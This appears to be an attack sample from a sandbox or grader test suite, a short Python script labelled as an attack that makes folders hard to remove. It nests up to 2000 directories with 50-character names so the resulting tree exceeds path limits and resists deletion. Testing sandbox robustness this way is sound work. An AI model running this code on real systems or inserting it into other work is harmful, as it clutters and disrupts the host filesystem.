# attack: makes folders that are hard to remove
# exercises: corr2d
# outcome: full
import os
try:
    for _ in range(2000):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)
except OSError:
    pass
